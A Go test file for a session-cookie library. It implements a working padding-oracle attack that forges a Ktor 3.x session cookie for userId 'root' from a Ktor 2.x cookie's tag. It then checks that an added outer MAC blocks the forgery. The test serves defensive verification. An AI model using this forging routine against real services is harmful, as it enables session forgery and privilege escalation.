package ktor

import (
	"bytes"
	"crypto/aes"
	"encoding/hex"
	"errors"
	"fmt"
	"strings"
	"testing"

	"github.com/sesstool/sesstool/transform"
)

// The cross-layout forgery of the package documentation ("Security"),
// carried out: one sign key made a Ktor < 3.0 cookie (Layout2: tag =
// HMAC(plaintext)) whose 16-byte plaintext the attacker knows, and a Ktor
// 3.x reader (Layout3: tag = HMAC(ciphertext)) uses the same sign key. The
// attacker sends the plaintext as a one-block 3.x ciphertext with the old
// tag, which passes the 3.x check; the reader's accept-or-reject answer to
// chosen IVs is then a padding oracle that yields D(block), and with it an
// IV that decrypts the block to any value of up to 15 bytes.

// crossLayoutKeys: the encryption key of Ktor's tests and a 32-byte sign
// key, fixed so that the number of queries is the same on every run.
var (
	crossEncKey  = ktorEncKey
	crossSignKey = mustHex("6b65792d6f662d612d6b746f722d322d782d736572766963652d737769746368")
	crossMACKey  = mustHex("a0a1a2a3a4a5a6a7a8a9aaabacadaeafb0b1b2b3b4b5b6b7b8b9babbbcbdbebf")
)

const (
	// knownPlaintext is the attacker's own 2.x session, exactly one block:
	// the reflection serialization of userId = "guest".
	knownPlaintext = "userId=%23sguest"
	// forgedPlaintext is the session the attacker wants: userId = "root".
	forgedPlaintext = "userId=%23sroot"
	// maxQueries bounds the attack: at most 256 guesses per byte, plus at
	// most two checks of the last byte's padding (01, or 02 02 by chance).
	maxQueries = 16*256 + 2
)

// paddingOracleForge runs the attack against read, which plays the server
// (any answer but an error is "accepted"). It starts from the tag of a
// Layout2 cookie whose plaintext is known, and returns the cookie value it
// forged for target and the number of queries it made, or an error when
// the oracle gave no usable answer.
func paddingOracleForge(read func([]byte) error, known []byte, layout2Tag string, target string) (string, int, error) {
	if len(known) != aes.BlockSize || len(target) >= aes.BlockSize {
		return "", 0, fmt.Errorf("need a %d-byte known plaintext and a shorter target", aes.BlockSize)
	}
	queries := 0
	tail := "/" + hex.EncodeToString(known) + ":" + layout2Tag // the "ciphertext" is the plaintext
	oracle := func(iv []byte) bool {
		queries++
		return read([]byte(hex.EncodeToString(iv)+tail)) == nil
	}
	var inter [aes.BlockSize]byte // D(known), found from the last byte back
	for pos := aes.BlockSize - 1; pos >= 0; pos-- {
		pad := byte(aes.BlockSize - pos)
		iv := make([]byte, aes.BlockSize)
		for j := pos + 1; j < aes.BlockSize; j++ {
			iv[j] = inter[j] ^ pad
		}
		found := false
		for g := range 256 {
			if queries >= maxQueries {
				return "", queries, fmt.Errorf("gave up after %d queries", queries)
			}
			iv[pos] = byte(g)
			if !oracle(iv) {
				continue
			}
			if pos == aes.BlockSize-1 {
				// The padding may be 02 02 (or longer) by chance rather
				// than 01: change the byte before and ask again.
				iv[pos-1] ^= 0xff
				ok := oracle(iv)
				iv[pos-1] ^= 0xff
				if !ok {
					continue
				}
			}
			inter[pos] = byte(g) ^ pad
			found = true
			break
		}
		if !found {
			return "", queries, fmt.Errorf("no IV gives a valid padding at byte %d after %d queries: the server is no padding oracle", pos, queries)
		}
	}
	// Choose the IV that decrypts the block to the padded target.
	n := aes.BlockSize - len(target)
	padded := append([]byte(target), bytes.Repeat([]byte{byte(n)}, n)...)
	forged := make([]byte, aes.BlockSize)
	for i := range forged {
		forged[i] = inter[i] ^ padded[i]
	}
	return hex.EncodeToString(forged) + tail, queries, nil
}

// TestCrossLayoutForgery shows the forgery against plain Encrypt readers
// that accept Layout3 under a sign key that a Ktor < 3.0 service used, and
// its failure against Encrypt followed by MessageAuthentication.
func TestCrossLayoutForgery(t *testing.T) {
	// The Ktor 2.x service, and the attacker's own cookie from it.
	old2x, err := NewEncrypt(crossEncKey, crossSignKey, &EncryptOptions{Write: Layout2})
	if err != nil {
		t.Fatal(err)
	}
	cookie := string(old2x.Write(nil, []byte(knownPlaintext)))
	layout2Tag := cookie[strings.LastIndexByte(cookie, ':')+1:]

	mac, err := NewMessageAuthentication(crossMACKey, transform.SHA256)
	if err != nil {
		t.Fatal(err)
	}
	newEncrypt := func(o *EncryptOptions) transform.Transformer {
		tr, err := NewEncrypt(crossEncKey, crossSignKey, o)
		if err != nil {
			t.Fatal(err)
		}
		return tr
	}
	// The chained service's own 2.x cookie, relabelled the same way: the
	// attacker holds an outer tag only for the value it was given.
	chain2x := transform.Chain(old2x, mac)
	chainedCookie := string(chain2x.Write(nil, []byte(knownPlaintext)))

	for _, tc := range []struct {
		name    string
		reader  transform.Transformer
		tag     string // the tag the attacker sends with the relabelled block
		outer   string // appended to every query: the outer MAC, if any
		forgery bool
	}{
		{"Ktor 3.x reader, sign key once used by Ktor 2.x", newEncrypt(nil), layout2Tag, "", true},
		{"Ktor 3.x reader with backwardCompatibleRead", newEncrypt(&EncryptOptions{Read: Layout3 | Layout2}), layout2Tag, "", true},
		{"Ktor 2.x reader", newEncrypt(&EncryptOptions{Write: Layout2}), layout2Tag, "", false},
		{"Encrypt + MessageAuthentication, 3.x", transform.Chain(newEncrypt(nil), mac),
			innerTag(chainedCookie), chainedCookie[strings.LastIndexByte(chainedCookie, '/'):], false},
		{"Encrypt + MessageAuthentication, both layouts", transform.Chain(newEncrypt(&EncryptOptions{Read: Layout3 | Layout2}), mac),
			innerTag(chainedCookie), chainedCookie[strings.LastIndexByte(chainedCookie, '/'):], false},
	} {
		t.Run(tc.name, func(t *testing.T) {
			accepted := 0
			read := func(v []byte) error {
				got, err := tc.reader.Read(nil, append(v, tc.outer...))
				if err == nil {
					accepted++
					if !tc.forgery {
						t.Errorf("the reader accepted the crafted value %q as %q", v, got)
					}
				} else if !errors.Is(err, transform.ErrInvalid) {
					t.Errorf("Read error = %v; want transform.ErrInvalid", err)
				}
				return err
			}
			forged, queries, err := paddingOracleForge(read, []byte(knownPlaintext), tc.tag, forgedPlaintext)
			t.Logf("%d queries, %d accepted", queries, accepted)
			if !tc.forgery {
				if err == nil {
					t.Fatalf("the attack forged %q", forged)
				}
				if queries > maxQueries {
					t.Errorf("%d queries; the attack is bounded by %d", queries, maxQueries)
				}
				return
			}
			if err != nil {
				t.Fatalf("the attack failed: %v", err)
			}
			if queries > maxQueries {
				t.Errorf("%d queries; want at most %d", queries, maxQueries)
			}
			enc, ok := tc.reader.(*Encrypt)
			if !ok {
				t.Fatalf("a forgery case reads with %T; want an *Encrypt", tc.reader)
			}
			got, layout, err := enc.ReadLayout(nil, []byte(forged))
			if err != nil || string(got) != forgedPlaintext || layout != Layout3 {
				t.Fatalf("reading the forged value %q = %q, %v, %v; want %q under Layout3", forged, got, layout, err, forgedPlaintext)
			}
			var s struct {
				UserID string `ktor:"userId"`
			}
			if err := Reflection().Unmarshal(got, &s); err != nil || s.UserID != "root" {
				t.Errorf("the forged session decodes to %+v, %v; want userId root", s, err)
			}
		})
	}
}

// innerTag returns the Encrypt tag inside a chained cookie:
// iv/ciphertext:tag/outer-tag.
func innerTag(chained string) string {
	inner := chained[:strings.LastIndexByte(chained, '/')]
	return inner[strings.LastIndexByte(inner, ':')+1:]
}
